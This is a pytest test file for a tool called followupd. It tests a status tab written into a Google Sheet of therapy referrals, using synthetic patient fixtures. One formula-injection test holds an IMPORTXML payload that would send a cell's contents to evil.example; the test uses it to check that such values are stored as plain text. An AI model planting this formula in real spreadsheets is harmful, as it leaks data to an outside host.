"""The status tab of a Google Sheet source (issue 16, `write_status: true`).

After each read of the sheet, followupd keeps a tab named `followupd` in the same spreadsheet:
one row per ref with what was drafted or reminded and when, what is held and why, what the
therapist sent; refs, dates and states only, never a patient value. These tests drive the
real CLI (and once the daemon) against the test Google server.
"""

from __future__ import annotations

import json
import os
import re
from datetime import date, timedelta
from urllib.parse import parse_qs, urlsplit
from zoneinfo import ZoneInfo

import pytest
from google_server import Formula, running_server
from test_daemon import env_for, start_daemon, stop
from test_google import write_token
from test_sources import add_source

from conftest import SAMPLE_PATIENT_VALUES, wait_for

BOOK = "1StatusTabBook0123456789abcdefghij"
TAB = "followupd"
TEN_DAYS_AGO = (date.today() - timedelta(days=10)).isoformat()
DAYS_AGO = (date.today() - timedelta(days=7)).isoformat()
SOURCE = f"""  - name: intake-sheet
    kind: google_sheet
    table: referrals
    spreadsheet: {BOOK}
    range: "Referrals!A1:Z"
    every: 1 minute
    write_status: true
    columns:
      ref: "Referral #"
      received_on: "Date received"
      client_name: "Client"
"""
HEADER = [
    "Referral #",
    "Date received",
    "physician",
    "physician_email",
    "Client",
    "client_dob",
    "presenting_problem",
    "treatment_focus",
    "release_on_file",
    "closed_on",
    "closing_summary",
]
FOCUS = "Weekly exposure work with breathing practice"
SUMMARY = "Finished after twelve sessions, no panic since October"
# Every patient value the sheet holds: none may reach the status tab.
PATIENT_VALUES = (*SAMPLE_PATIENT_VALUES, FOCUS, SUMMARY)
PATIENTS = [
    ["R-1", TEN_DAYS_AGO, "Dr. Ann Lee", "ann@lee.example", "Avery Quinlan", "1984-03-09",
     "Panic attacks", FOCUS, "yes", "", ""],
    ["R-2", TEN_DAYS_AGO, "Dr. Ann Lee", "ann@lee.example", "Jordan Pelletier", "1991-07-22",
     "Low mood", "", "no", "", ""],
    ["R-3", TEN_DAYS_AGO, "Dr. Raj Osei", "raj@osei.example", "Casey Fairbanks", "1978-12-01",
     "Generalized worry", FOCUS, "yes", DAYS_AGO, SUMMARY],
]  # fmt: skip
WRITES = ("spreadsheets.batchUpdate", "spreadsheets.values.update", "spreadsheets.values.clear")
DAY = r"\d{4}-\d{2}-\d{2}"


@pytest.fixture
def google(home):
    """The test server holding the practice's intake sheet; the home signed in to it and
    delivering there (Gmail drafts, read scope on: a sent draft is told from a deleted one)."""
    with running_server() as server:
        server.put_sheet(BOOK, "Referrals", [HEADER, *PATIENTS])
        write_token(home, token_uri=f"{server.base_url}/token")
        os.chmod(home / "google-token.json", 0o600)
        config = home / "followupd.yaml"
        text = config.read_text().replace("read_scope: false", "read_scope: true")
        config.write_text(text.replace("sync: 15 minutes", "sync: 0 seconds"))
        add_source(home, SOURCE)
        yield (
            server,
            {
                "FOLLOWUPD_GOOGLE_API_ENDPOINT": server.sheets_endpoint,
                "FOLLOWUPD_DELIVERY": "google",
            },
        )


def tab(server) -> list[list[str]]:
    """The status tab as the therapist sees it."""
    return server.tab_text(BOOK, TAB)


def by_ref(rows: list[list[str]]) -> dict[str, dict[str, str]]:
    """{ref: {column: cell}} under the tab's header."""
    header = rows[0]
    return {row[0]: dict(zip(header, row + [""] * (len(header) - len(row)), strict=True))
            for row in rows[1:]}  # fmt: skip


def writes(server) -> int:
    return sum(server.stats.count(kind) for kind in WRITES)


def assert_no_patient_value(server) -> None:
    """Every cell of the status tab, stored and shown, against every patient value."""
    cells = [str(c) for row in server.sheet(BOOK, TAB) for c in row]
    cells += [c for row in tab(server) for c in row]
    assert cells
    found = [value for value in PATIENT_VALUES if any(value in c for c in cells)]
    assert found == []


def draft_of(cli, env, ref: str, rule: str) -> str:
    [line] = cli("status", "--json", "--ref", ref, "--rule", rule, env=env).stdout.splitlines()
    return json.loads(line)["external_id"].removeprefix("gmail:")


# --- the tab -------------------------------------------------------------------------------


def test_the_tab_shows_each_ref_drafted_held_and_sent_never_a_patient_value(cli, home, google):
    server, env = google
    assert cli("sources", "read", env=env).code == 0
    first = by_ref(tab(server))
    assert set(first) == {"R-1", "R-2", "R-3"}  # read, not planned yet: no note columns
    assert tab(server)[0] == ["ref", "received", "why held"]
    assert first["R-1"]["received"] == TEN_DAYS_AGO
    ran = cli("run", "--once", env=env)
    assert ran.code == 0, ran.stdout + ran.stderr
    server.send_draft("me", draft_of(cli, env, "R-1", "referral-acknowledgement"))
    cli("run", "--once", env=env)  # the sync notices the sent draft
    cli("sources", "read", env=env)
    rows = tab(server)
    header = rows[0]
    assert header[:2] == ["ref", "received"] and header[-1] == "why held"
    assert header.index("referral-acknowledgement") < header.index("closing-note")
    shown = by_ref(rows)
    assert re.fullmatch(f"sent {DAY}", shown["R-1"]["referral-acknowledgement"])
    assert re.fullmatch(f"held since {DAY}", shown["R-2"]["referral-acknowledgement"])
    assert (
        "referral-acknowledgement: no release of information on file for referral R-2"
        in (shown["R-2"]["why held"])
    )
    assert re.fullmatch(f"drafted {DAY}", shown["R-3"]["closing-note"])
    assert shown["R-1"]["why held"] == ""
    assert [row[0] for row in rows[1:]] == ["R-1", "R-2", "R-3"]
    assert_no_patient_value(server)
    # The import's own sheet is untouched, and the tab is the spreadsheet's second one.
    assert server.sheet(BOOK, "Referrals")[0] == HEADER
    tabs = [t["properties"]["title"] for t in server.spreadsheet(BOOK)["sheets"]]
    assert tabs == ["Referrals", TAB]


def test_the_tab_is_rewritten_only_when_it_changes(cli, home, google):
    server, env = google
    cli("sources", "read", env=env)
    made = writes(server)
    assert made == 2  # addSheet, values.update
    looked = server.stats.count("spreadsheets.get")
    cli("sources", "read", env=env)
    assert writes(server) == made  # the same rows: nothing asked of Google
    assert server.stats.count("spreadsheets.get") == looked
    cli("run", "--once", env=env)
    cli("sources", "read", env=env)
    assert server.stats.count("spreadsheets.values.update") == 2  # the notes changed
    assert server.stats.count("spreadsheets.batchUpdate") == 1  # the tab was there
    assert writes(server) == made + 1


def test_an_add_sheet_whose_answer_is_lost_is_done(cli, home, google):
    """Google made the tab, the answer never came: asked again, "already exists" is success."""
    server, env = google
    server.inject("spreadsheets.batchUpdate", "act-then-drop")
    assert cli("sources", "read", env=env).code == 0
    assert server.stats.dropped == 1 and server.stats.count("spreadsheets.batchUpdate") == 2
    tabs = [t["properties"]["title"] for t in server.spreadsheet(BOOK)["sheets"]]
    assert tabs == ["Referrals", TAB]
    assert set(by_ref(tab(server))) == {"R-1", "R-2", "R-3"}
    assert "status tab" not in cli("sources", env=env).stdout


def test_the_grid_grows_for_1200_refs_and_a_shorter_write_clears_the_rest(cli, home, google):
    server, env = google
    many = [[f"P-{n:04d}", "2020-01-06", "Dr. Ann Lee", "ann@lee.example", "Avery Quinlan",
             "1984-03-09", "Panic attacks", "", "yes", "", ""] for n in range(1200)]  # fmt: skip
    server.put_sheet(BOOK, "Referrals", [HEADER, *many])
    assert cli("sources", "read", env=env).code == 0
    rows = tab(server)
    assert len(rows) == 1201 and rows[-1][0] == "P-1199"
    assert server.grid_size(BOOK, TAB)[0] >= 1201
    assert server.stats.count("spreadsheets.batchUpdate") == 2  # addSheet, appendDimension
    server.put_sheet(BOOK, "Referrals", [HEADER, *many[:5]])
    assert cli("sources", "read", env=env).code == 0
    # The other 1,195 left the sheet with nothing waiting: their rows are cleared.
    assert [row[0] for row in tab(server)] == ["ref", *(f"P-{n:04d}" for n in range(5))]
    assert server.stats.count("spreadsheets.batchUpdate") == 2  # the grid was big enough
    assert_no_patient_value(server)


def test_a_ref_that_looks_like_a_formula_stays_text(cli, home, google):
    server, env = google
    trap = '=IMPORTXML("https://evil.example/?q=" & A2, "//a")'
    server.append_row(BOOK, "Referrals", [trap, TEN_DAYS_AGO, "Dr. Ann Lee", "ann@lee.example",
                                          "Avery Quinlan", "", "", "", "no", "", ""])  # fmt: skip
    assert cli("sources", "read", env=env).code == 0
    stored = [row[0] for row in server.sheet(BOOK, TAB)]
    assert trap in stored and not any(isinstance(c, Formula) for c in stored)
    assert trap in [row[0] for row in tab(server)]  # shown as typed, not as #N/A
    [update] = [r for r in server.requests if r.method == "PUT"]
    assert parse_qs(urlsplit(update.path).query)["valueInputOption"] == ["RAW"]


def test_a_refused_write_leaves_the_import_done_and_says_what_to_do(cli, home, google):
    """A sign-in that may only read spreadsheets: the read imports, the tab waits, and
    `followupd sources` says to sign in again; signed in again, the next read writes it."""
    server, env = google
    before = ["gmail.compose", "calendar.events", "gmail.readonly", "spreadsheets.readonly"]
    server.set_scopes(before, refresh_token="refresh-me")  # signed in before write_status
    ran = cli("sources", "read", env=env)
    assert ran.code == 0 and "added 3" in ran.stdout, ran.stdout + ran.stderr
    assert server.stats.statuses[403] == 1  # the addSheet, refused
    listing = cli("sources", env=env).stdout
    assert "intake-sheet: status tab: run `followupd auth` again: write_status needs the " in (
        " ".join(listing.split())
    )
    assert len(cli("referral", "list", "--json", env=env).stdout.splitlines()) == 3
    assert TAB not in [t["properties"]["title"] for t in server.spreadsheet(BOOK)["sheets"]]
    assert cli("run", "--once", env=env).code == 0  # delivery goes on
    server.set_scopes(None, refresh_token="refresh-me")  # `followupd auth` again
    assert cli("sources", "read", env=env).code == 0
    assert set(by_ref(tab(server))) == {"R-1", "R-2", "R-3"}
    assert "status tab" not in cli("sources", env=env).stdout


def test_a_spreadsheet_shared_read_only_says_to_share_it_for_editing(cli, home, google):
    server, env = google
    server.set_sheet_access(BOOK, "read")
    ran = cli("sources", "read", env=env)
    assert ran.code == 0 and "added 3" in ran.stdout
    listing = " ".join(cli("sources", env=env).stdout.split())
    assert "intake-sheet: status tab: no edit access: share the spreadsheet with the " in listing
    assert "last error" not in listing  # the read itself went well
    server.set_sheet_access(BOOK, "write")
    cli("sources", "read", env=env)
    assert "status tab" not in cli("sources", env=env).stdout and len(tab(server)) == 4


def test_a_tab_of_that_name_followupd_did_not_make_is_never_written_over(cli, home, google):
    """The practice's own tab called FollowUpD (titles match regardless of case): left as
    it is, and `followupd sources` says to rename it."""
    server, env = google
    mine = [["my notes", "do not touch"], ["call Dr. Lee", "Tuesday"]]
    server.put_sheet(BOOK, "FollowUpD", mine)
    ran = cli("sources", "read", env=env)
    assert ran.code == 0 and "added 3" in ran.stdout
    assert server.tab_text(BOOK, "FollowUpD") == mine
    listing = " ".join(cli("sources", env=env).stdout.split())
    assert "status tab: the spreadsheet has a tab named followupd that followupd did not " in (
        listing
    )


def test_signing_in_asks_to_write_spreadsheets_only_for_a_status_tab(home):
    from followupd import config as configuration
    from followupd.delivery.googleapi import SCOPE_SHEETS, SCOPE_SHEETS_READ, scopes, wants_sheets

    add_source(home, SOURCE.replace("    write_status: true\n", ""))
    settings = configuration.load(home, environ={})
    asked = scopes(settings.config.google.read_scope, wants_sheets(settings))
    assert SCOPE_SHEETS_READ in asked and SCOPE_SHEETS not in asked
    config = home / "followupd.yaml"
    config.write_text(config.read_text().replace("every: 1 minute\n", "every: 1 minute\n"
                                                 "    write_status: true\n"))  # fmt: skip
    settings = configuration.load(home, environ={})
    asked = scopes(settings.config.google.read_scope, wants_sheets(settings))
    assert SCOPE_SHEETS in asked and SCOPE_SHEETS_READ not in asked  # it reads as well


# --- the rows, without Google ----------------------------------------------------------------


def test_each_state_reads_as_words_with_its_date():
    from datetime import UTC, datetime

    from followupd.sheet_status import build_rows, padded
    from followupd.store import NoteLine, StatusLine

    zone = ZoneInfo("America/Chicago")
    late = datetime(2026, 11, 25, 3, 0, tzinfo=UTC)  # still the 24th in Chicago
    due = datetime(2026, 12, 1, 14, 0, tzinfo=UTC)
    lines = [
        StatusLine("R-1", date(2026, 11, 23), notes=[
            NoteLine("ack", "draft", "sent", due, late, "sent 2026-11-25 03:00 UTC"),
            NoteLine("call", "reminder", "done", due, late, None),
        ]),
        StatusLine("R-2", date(2026, 11, 23), notes=[
            NoteLine("ack", "draft", "held", due, late, "no release of information on file "
                     "for referral R-2"),
            NoteLine("old", "draft", "planned", due, late, None),
        ]),
        StatusLine("R-3", date(2026, 11, 2), gone=True, notes=[
            NoteLine("ack", "draft", "done", due, late, None),
        ]),
    ]  # fmt: skip
    rows = build_rows(lines, ["call", "ack"], zone)
    assert rows == [
        ["ref", "received", "call", "ack", "old", "why held"],
        ["R-1", "2026-11-23", "reminded 2026-11-24", "sent 2026-11-24", "", ""],
        [
            "R-2",
            "2026-11-23",
            "",
            "held since 2026-11-24",
            "due 2026-12-01",
            "ack: no release of information on file for referral R-2",
        ],
    ]  # R-3 left the sheet and nothing of it waits: not shown
    assert padded([["a", "b"], ["c"]], (3, 3)) == [["a", "b", ""], ["c", "", ""], ["", "", ""]]


# --- the daemon ------------------------------------------------------------------------------


@pytest.mark.slow  # a daemon's start, a read and a tick: 5-20 s
def test_the_daemon_keeps_the_tab(home, db_url, google):
    server, env = google
    daemon = start_daemon(home, env_for(db_url, **env))
    try:
        assert wait_for(lambda: TAB in str(server.spreadsheet(BOOK)), 60), (
            home / "daemon.log"
        ).read_text()
        assert wait_for(lambda: len(tab(server)) == 4, 30)
        written = 'event="status tab written" source=intake-sheet rows=3'
        assert wait_for(lambda: written in (home / "daemon.log").read_text(), 30)
        log = (home / "daemon.log").read_text()
        assert not any(value in log for value in PATIENT_VALUES)
        assert_no_patient_value(server)
        code, _ = stop(daemon)
        assert code == 0
    finally:
        if daemon.poll() is None:
            daemon.kill()
